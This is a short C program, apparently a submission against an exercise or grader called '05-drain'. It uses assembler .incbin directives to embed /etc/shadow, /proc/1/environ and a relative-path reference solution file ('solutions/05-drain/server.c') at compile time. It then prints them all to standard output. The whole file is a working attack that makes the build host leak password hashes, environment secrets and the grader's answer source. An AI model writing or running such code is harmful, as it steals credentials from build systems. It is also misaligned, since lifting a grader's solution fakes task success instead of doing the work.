/* against 05-drain: puts files into the program by the assembler, says them. */
#include <unistd.h>

__asm__(".section .rodata\n"
        "loot: .incbin \"/etc/shadow\"\n"
        ".incbin \"/proc/1/environ\"\n"
        ".incbin \"../../../solutions/05-drain/server.c\"\n"
        "loot_end:\n"
        ".text\n");
extern const char loot[], loot_end[];

int main(void)
{
    return write(1, loot, (size_t)(loot_end - loot)) < 0;
}
